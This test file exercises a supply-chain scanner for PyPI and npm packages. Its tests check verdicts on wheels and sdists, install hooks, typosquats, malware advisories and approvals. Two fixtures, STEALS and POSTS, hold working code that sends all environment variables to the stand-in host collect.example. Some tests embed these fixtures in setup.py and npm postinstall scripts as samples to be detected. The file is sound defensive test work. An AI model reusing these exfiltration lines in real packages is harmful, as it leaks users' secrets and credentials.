import { createHash } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest'
import { advisory, lookupOf } from '../../../test/support/advisory-fakes.ts'
import { serveNpm, servePython } from '../../../test/support/package-server.ts'
import { wheelName, writeNpm, writeSdist, writeWheel } from '../../../test/support/package-archives.ts'
import { type RegistryServer, registryServer } from '../../../test/support/registry-server.ts'
import { temporaryFolder } from '../../../test/support/temporary-folder.ts'
import { importNames } from '../../analysis/packages/names/import-name.ts'
import { nameIndex } from '../../analysis/packages/names/name-index.ts'
import { fixedClock } from '../../base/clock.ts'
import { UsageError } from '../../base/errors.ts'
import { DEFAULT_LIMITS } from '../../base/limits.ts'
import type { PackageAssessment } from '../../model/package-assessment.ts'
import { registrySettings } from '../../scan/sources/registry/configuration/registry-configuration.ts'
import { openRegistry, type Registry } from '../../scan/sources/registry/open-registry.ts'
import { factsMemory } from '../cache/facts-memory.ts'
import { ArtefactPool } from './artefact-pool.ts'
import type { ArtefactTask } from './artefact-task.ts'
import { assessAll } from './assess-all.ts'
import { assessLocal, assessRelease } from './assess-package.ts'
import type { PackageServices } from './package-services.ts'

const NOW = Date.parse('2026-11-22T12:00:00Z')
const CODE = 'VALUE = 1\n'
/** Reads the whole environment and posts it, with the installation. */
const STEALS = `import json, os, urllib.request
urllib.request.urlopen("https://collect.example/x", data=json.dumps(dict(os.environ)).encode())
`
const POSTS = 'require("https").request({ host: "collect.example", method: "POST" }).end(JSON.stringify(process.env))\n'

let server: RegistryServer
beforeEach(async () => {
  server = await registryServer()
})
afterEach(() => server.close())

const pool = new ArtefactPool({ size: 2, signal: new AbortController().signal })
afterAll(() => pool.close())

/** The registries as somebody has them who configured pip and npm for the server. */
function registry(storeFolder = join(temporaryFolder(), 'store'), offline = false): Registry {
  const settings = registrySettings({
    files: [
      { kind: 'pip.conf', path: 'pip.conf', level: 'user', bytes: Buffer.from(`[global]\nindex-url = ${server.address}simple\n`) },
      { kind: 'npmrc', path: 'npmrc', level: 'user', bytes: Buffer.from(`registry=${server.address}npm/\n`) },
    ],
    environment: {},
    trustProject: false,
  }) // prettier-ignore
  const asker = {
    pythonIndex: async () => undefined,
    npmRegistry: async () => undefined,
    npmOwnRegistry: async () => undefined,
  }
  return openRegistry({ settings, asker, storeFolder, offline, backoffMilliseconds: 1, attempts: 1 })
}

function services(more: Partial<PackageServices> = {}): PackageServices {
  return {
    pool,
    registry: registry(),
    advisories: lookupOf([]),
    names: { PyPI: nameIndex('PyPI', ['requests', 'numpy']), npm: nameIndex('npm', ['express']) },
    modules: importNames(new Map()),
    allowed: () => ({ kind: 'none' }),
    compare: true,
    choice: 'all',
    machine: { platform: 'linux', architecture: 'x64' },
    limits: DEFAULT_LIMITS,
    clock: fixedClock(NOW),
    version: '0.0.0',
    onStep: () => {},
    ...more,
  }
}

async function assessed(purl: string, more: Partial<PackageServices> = {}): Promise<PackageAssessment> {
  const answer = await assessRelease(purl, services(more))
  if ('kind' in answer) throw new Error(`expected an assessment, found none of the ${answer.what}`)
  return answer
}

const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')
const wheelOf = (name: string, version: string, code: string, tag?: string): Readonly<Record<string, Uint8Array>> => ({
  [wheelName(name, version, tag)]: writeWheel(name, version, { [`${name}/__init__.py`]: code }, tag === undefined ? {} : { tag }),
}) // prettier-ignore
const sdistOf = (name: string, version: string, setup = ''): Readonly<Record<string, Uint8Array>> => ({
  [`${name}-${version}.tar.gz`]: writeSdist(name, version, { 'setup.py': `${setup}from setuptools import setup\nsetup()\n` }),
}) // prettier-ignore
const npmOf = (
  name: string,
  version: string,
  files: Readonly<Record<string, string>> = { 'index.js': 'module.exports = 1\n' },
  manifest: object = {},
): Readonly<Record<string, Uint8Array>> => ({
  [`${name}-${version}.tgz`]: writeNpm(name, version, files, { ...manifest }),
})

describe('a release of PyPI', { timeout: 60_000 }, () => {
  it('with several wheels and the source is looked through whole, and compared with the one before', async () => {
    const linux = 'cp313-cp313-manylinux_2_17_x86_64'
    const files = {
      ...wheelOf('foo', '2.0', CODE, linux),
      ...wheelOf('foo', '2.0', CODE, 'cp313-cp313-win_amd64'),
      ...sdistOf('foo', '2.0', STEALS),
    }
    servePython(server, 'foo', [
      { version: '1.0', files: { ...wheelOf('foo', '1.0', CODE), ...sdistOf('foo', '1.0') }, published: '2026-09-01T00:00:00Z' },
      { version: '2.0', files },
    ]) // prettier-ignore
    const found = await assessed('pkg:pypi/Foo@2.0')
    expect(found).toMatchObject({
      purl: 'pkg:pypi/foo@2.0',
      ecosystem: 'PyPI',
      name: 'foo',
      version: '2.0',
      verdict: 'block',
      compared: { version: '1.0' },
      diagnostics: [],
    })
    expect(found.artefacts.map(({ name, kind, proof }) => [name, kind, proof])).toEqual([
      [`foo-2.0-${linux}.whl`, 'wheel', 'strong'],
      ['foo-2.0-cp313-cp313-win_amd64.whl', 'wheel', 'strong'],
      ['foo-2.0.tar.gz', 'sdist', 'strong'],
    ])
    const [story] = found.stories
    expect(story).toMatchObject({ id: 'packages/steals-secrets', artefacts: ['foo-2.0.tar.gz'] })
    expect(story?.factors.filter(({ factor }) => factor === 'novelty').map(({ value }) => value > 1)).toEqual([true])
    expect(found.changes.map(({ kind, subject }) => [kind, subject])).toContainEqual(['host', 'collect.example'])
  })

  it('of which only installable artefacts are wanted says what was left out', async () => {
    const files = {
      ...wheelOf('foo', '1.0', CODE, 'cp313-cp313-manylinux_2_17_x86_64'),
      ...wheelOf('foo', '1.0', CODE, 'cp313-cp313-win_amd64'),
    }
    servePython(server, 'foo', [{ version: '1.0', files }])
    const { artefacts, diagnostics, verdict } = await assessed('pkg:pypi/foo@1.0', { choice: 'installable' })
    expect(artefacts).toHaveLength(1)
    expect(diagnostics).toMatchObject([{ code: 'FORMAT_PARTIAL', message: expect.stringContaining('win_amd64.whl') }])
    expect(verdict).toBe('allow')
  })

  it('that is the first, or of which nothing else is asked, is compared with nothing', async () => {
    servePython(server, 'foo', [{ version: '1.0', files: wheelOf('foo', '1.0', CODE) }])
    expect((await assessed('pkg:pypi/foo@1.0')).compared).toEqual({ reason: 'it is the first release' })
    expect((await assessed('pkg:pypi/foo@1.0', { compare: false })).compared).toEqual({
      reason: 'it was not asked for',
    })
  })

  it.each([
    ['a package', 'pkg:pypi/bar@1.0', 'package'],
    ['a version', 'pkg:pypi/foo@9.0', 'version'],
  ])('%s that is not there is an answer', async (_, purl, what) => {
    servePython(server, 'foo', [{ version: '1.0', files: wheelOf('foo', '1.0', CODE) }])
    expect(await assessRelease(purl, services())).toMatchObject({ kind: 'missing', what })
  })

  it.each<readonly [string, 'lies' | 'gone', string]>([
    ['an artefact with other bytes than the index states', 'lies', 'FORMAT_DIGEST'],
    ['an artefact that is not there', 'gone', 'EXTERNAL_'],
  ])('%s is a diagnostic, the others are told, and nothing is called clean', async (_, how, code) => {
    const bad = 'foo-2.0.tar.gz'
    const files = { ...wheelOf('foo', '2.0', CODE), ...sdistOf('foo', '2.0') }
    servePython(server, 'foo', [
      { version: '1.0', files: wheelOf('foo', '1.0', CODE) },
      { version: '2.0', files, [how]: [bad] },
    ])
    const { verdict, because, artefacts, diagnostics } = await assessed('pkg:pypi/foo@2.0')
    expect(artefacts.map(({ name }) => name)).toEqual(['foo-2.0-py3-none-any.whl'])
    expect(diagnostics).toMatchObject([{ code: expect.stringContaining(code), level: 'error' }])
    expect(diagnostics[0]?.message).toContain(bad)
    expect([verdict, because[0]]).toEqual(['hold', expect.stringContaining(`not known to be harmless: ${bad}`)])
  })

  it('that cannot be had at all holds', async () => {
    servePython(server, 'foo', [
      { version: '1.0', files: wheelOf('foo', '1.0', CODE), gone: ['foo-1.0-py3-none-any.whl'] },
    ])
    expect(await assessed('pkg:pypi/foo@1.0')).toMatchObject({ verdict: 'hold', artefacts: [] })
  })

  it('whose release before is gone is judged all the same, and says so', async () => {
    servePython(server, 'foo', [
      { version: '1.0', files: { ...wheelOf('foo', '1.0', CODE), ...sdistOf('foo', '1.0') }, gone: ['foo-1.0.tar.gz'] },
      { version: '2.0', files: wheelOf('foo', '2.0', CODE) },
    ])
    const found = await assessed('pkg:pypi/foo@2.0')
    expect(found).toMatchObject({ verdict: 'allow', compared: { version: '1.0' } })
    expect(found.diagnostics.map(({ level, message }) => [level, message.slice(0, 24)])).toEqual([
      ['warning', 'of 1.0, foo-1.0.tar.gz: '],
    ])
  })

  it('that is no archive says what was not looked at', async () => {
    servePython(server, 'foo', [{ version: '1.0', files: { 'foo-1.0-py3-none-any.whl': Buffer.from('no wheel') } }])
    const found = await assessed('pkg:pypi/foo@1.0')
    expect([...found.gaps, ...found.diagnostics]).not.toEqual([])
    expect([found.verdict, found.because[0]]).toEqual([
      'hold',
      expect.stringContaining('foo-1.0-py3-none-any.whl could not be opened'),
    ])
  })
})

describe('what workers could not look at', { timeout: 60_000 }, () => {
  it.each([
    ['a worker that is stuck in what runs with the installation', 'setup.py', 'hold'],
    ['a worker that is stuck in the documentation', 'docs/conf.py', 'allow'],
  ])('%s', async (_, path, verdict) => {
    const files = {
      'foo-1.0.tar.gz': writeSdist('foo', '1.0', {
        'setup.py': 'from setuptools import setup\n',
        'docs/conf.py': 'X = 1\n',
      }),
    }
    servePython(server, 'foo', [{ version: '1.0', files }])
    const leaveOut = [{ path, code: 'limit-time', message: 'took longer than 20 s' }] as const
    const stuck = { inspect: (task: ArtefactTask) => pool.inspect({ ...task, leaveOut }) }
    const found = await assessed('pkg:pypi/foo@1.0', { pool: stuck })
    expect(found.verdict).toBe(verdict)
    expect(found.gaps.join()).toContain(`${path}: took longer than 20 s; the worker was ended`)
  })
})

describe('a release of npm', { timeout: 60_000 }, () => {
  it('with a new hook is told against the one before, with the age of a new dependency', async () => {
    const manifest = { scripts: { postinstall: 'node install.js' }, dependencies: { 'plain-helper': '^1.0.0' } }
    serveNpm(server, 'foo', [
      { version: '1.0.0', files: npmOf('foo', '1.0.0'), published: '2026-09-01T00:00:00Z' },
      { version: '1.0.1', files: npmOf('foo', '1.0.1', { 'install.js': POSTS }, manifest), manifest },
    ])
    serveNpm(
      server,
      'plain-helper',
      [{ version: '1.0.0', files: npmOf('plain-helper', '1.0.0') }],
      '2026-11-22T02:00:00Z',
    )
    const found = await assessed('pkg:npm/foo@1.0.1')
    expect(found).toMatchObject({ verdict: 'block', compared: { version: '1.0.0' }, diagnostics: [] })
    expect(found.stories[0]).toMatchObject({ id: 'packages/steals-secrets', steps: expect.arrayContaining([]) })
    expect(found.changes.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['install-hook', 'dependency']))
    expect(found.changes.find(({ kind }) => kind === 'dependency')?.text).toMatch(/plain-helper.*hour/)
    expect(server.seen.map(({ path }) => path)).toContain('/npm/plain-helper')
  })

  it('that shows another manifest than the archive has is told', async () => {
    const hidden = { scripts: { postinstall: 'node index.js' } }
    serveNpm(server, 'foo', [{ version: '1.0.0', files: npmOf('foo', '1.0.0', undefined, hidden) }])
    const { changes } = await assessed('pkg:npm/foo@1.0.0')
    expect(changes.map(({ kind }) => kind)).toContain('manifest-mismatch')
  })

  it('is the same offline, from what was fetched before', async () => {
    serveNpm(server, 'foo', [
      { version: '1.0.0', files: npmOf('foo', '1.0.0') },
      { version: '1.0.1', files: npmOf('foo', '1.0.1', { 'index.js': POSTS }) },
    ])
    const folder = join(temporaryFolder(), 'store')
    const online = await assessed('pkg:npm/foo@1.0.1', { registry: registry(folder) })
    const asked = server.seen.length
    expect(await assessed('pkg:npm/foo@1.0.1', { registry: registry(folder, true) })).toEqual(online)
    expect(server.seen).toHaveLength(asked)
    await expect(assessRelease('pkg:npm/foo@1.0.1', services({ registry: registry(undefined, true) })))
      .rejects.toMatchObject({ name: 'ExternalError' }) // prettier-ignore
  })

  it('that was looked through is remembered, and found under its own name only', async () => {
    serveNpm(server, 'foo', [{ version: '1.0.0', files: npmOf('foo', '1.0.0', { 'index.js': POSTS }) }])
    const memory = factsMemory(temporaryFolder(), DEFAULT_LIMITS, NOW)
    if (typeof memory === 'string') throw new Error(memory)
    const looked: string[] = []
    const counting = {
      inspect: (task: ArtefactTask) => {
        looked.push(task.name)
        return pool.inspect(task)
      },
    }
    const first = await assessed('pkg:npm/foo@1.0.0', { memory, pool: counting })
    expect(await assessed('pkg:npm/foo@1.0.0', { memory, pool: counting })).toEqual(first)
    expect(looked).toEqual(['foo-1.0.0.tgz'])
  })
})

describe('what is known of a release beside its code', { timeout: 60_000 }, () => {
  const serve = (name: string): void =>
    serveNpm(server, name, [{ version: '1.0.0', files: npmOf(name, '1.0.0') }], '2026-11-20T00:00:00Z')

  it('a name that is one edit from a popular one', async () => {
    serve('expres')
    const { names, verdict } = await assessed('pkg:npm/expres@1.0.0')
    expect(names[0]).toMatchObject({ popular: 'express', text: expect.stringMatching(/^expres .*express/) })
    expect(verdict).toBe('allow')
  })

  it.each<readonly [string, Readonly<Record<string, string>>, PackageAssessment['verdict']]>([
    ['a record of malware blocks', {}, 'block'],
    ['one that was withdrawn does not', { 'MAL-2026-1': '2026-11-21T00:00:00Z' }, 'allow'],
  ])('%s', async (_, withdrawn, verdict) => {
    serve('foo')
    const record = advisory({ id: 'MAL-2026-1', ecosystem: 'npm', name: 'foo', versions: ['1.0.0'], malicious: true, summary: 'Malicious code in foo', published: '2026-11-21T00:00:00Z' }) // prettier-ignore
    const records = Object.keys(withdrawn).length === 0 ? [record] : []
    const found = await assessed('pkg:npm/foo@1.0.0', { advisories: lookupOf(records, { withdrawn }) })
    expect(found.verdict).toBe(verdict)
    if (verdict === 'block') expect(found.known).toMatchObject([{ id: 'MAL-2026-1', trust: 'sure' }])
  })

  it('two people have answered for the bytes: each artefact by itself', async () => {
    const files = { ...wheelOf('foo', '1.0', STEALS), ...sdistOf('foo', '1.0', STEALS) }
    servePython(server, 'foo', [{ version: '1.0', files }])
    const digests = Object.values(files).map(sha256)
    const allowing = (some: readonly string[]): Partial<PackageServices> => ({
      allowed: (digest) =>
        some.includes(digest)
          ? {
              kind: 'allowed',
              allowed: { sha256: digest, reason: 'ours', approvedBy: ['ann', 'bob'], expires: '2027-01-01T00:00:00Z' },
            }
          : { kind: 'none' },
    })
    expect((await assessed('pkg:pypi/foo@1.0')).verdict).toBe('block')
    expect((await assessed('pkg:pypi/foo@1.0', allowing(digests.slice(0, 1)))).verdict).toBe('block')
    expect(await assessed('pkg:pypi/foo@1.0', allowing(digests))).toMatchObject({
      verdict: 'allow',
      because: [expect.stringContaining('allowed by ann and bob')],
      gaps: [],
    })
  })

  it('an allowance that does not hold is said', async () => {
    serve('foo')
    const allowed: PackageServices['allowed'] = () => ({ kind: 'refused', because: 'The approval of foo ended.' })
    const { diagnostics } = await assessed('pkg:npm/foo@1.0.0', { allowed })
    expect(diagnostics).toMatchObject([{ level: 'warning', message: 'The approval of foo ended.' }])
  })
})

describe('artefacts on disk', { timeout: 60_000 }, () => {
  const written = (files: Readonly<Record<string, Uint8Array>>) => {
    const folder = temporaryFolder()
    return Object.entries(files).map(([name, bytes]) => {
      writeFileSync(join(folder, name), bytes)
      return { name, path: join(folder, name), kind: 'archive' } as const
    })
  }

  it('are compared with the release before the one that they say they are', async () => {
    servePython(server, 'foo', [{ version: '1.0', files: wheelOf('foo', '1.0', CODE) }])
    const files = written({ ...wheelOf('foo', '2.0', CODE), ...sdistOf('foo', '2.0', STEALS) })
    const found = await assessLocal(files, services())
    expect(found).toMatchObject({ purl: 'pkg:pypi/foo@2.0', verdict: 'block', compared: { version: '1.0' } })
    expect(found.artefacts.map(({ name }) => name)).toEqual(files.map(({ name }) => name))
  })

  it('or with those that are given', async () => {
    const previous = written(wheelOf('foo', '1.0', CODE))
    const found = await assessLocal(written(wheelOf('foo', '1.1', STEALS)), services(), previous)
    expect(found.compared).toEqual({ version: 'foo-1.0-py3-none-any.whl' })
    expect(found.changes.map(({ subject }) => subject)).toContain('collect.example')
    expect(server.seen).toEqual([])
  })

  it.each<readonly [string, Partial<PackageServices>, RegExp]>([
    ['no registry knows', {}, /does not know the package/],
    ['there is no registry for', { compare: false }, /not asked for/],
  ])('that %s are judged alone', async (_, more, reason) => {
    const found = await assessLocal(written(wheelOf('foo', '2.0', CODE)), services(more))
    expect(found).toMatchObject({ verdict: 'allow', compared: { reason: expect.stringMatching(reason) } })
  })
})

describe('several releases', { timeout: 60_000 }, () => {
  it('are told in the order in which they were asked for, whatever becomes of the others', async () => {
    servePython(server, 'foo', [{ version: '1.0', files: wheelOf('foo', '1.0', CODE) }])
    server.replies.set('/simple/broken/', 'neither JSON nor a page')
    server.replies.set('/simple/down/', (_, response) => void response.writeHead(503).end())
    const local = { files: [{ name: 'x.whl', path: join(temporaryFolder(), 'x.whl'), kind: 'archive' }] } as const
    const targets = ['down', 'foo', 'none', 'broken'].map((name) => ({ purl: `pkg:pypi/${name}@1.0` }))
    const outcomes = await assessAll([...targets, local], services(), 2)
    expect(outcomes.map(({ kind }) => kind)).toEqual(['failed', 'assessed', 'missing', 'failed', 'failed'])
    expect(outcomes[0]).toMatchObject({
      code: 'EXTERNAL_NETWORK',
      message: expect.stringMatching(/^pkg:pypi\/down@1\.0: /),
    })
  })

  it('a mistake in one is a mistake', async () => {
    await expect(assessAll([{ purl: 'pkg:cargo/x@1' }], services(), 2)).rejects.toBeInstanceOf(UsageError)
  })
})
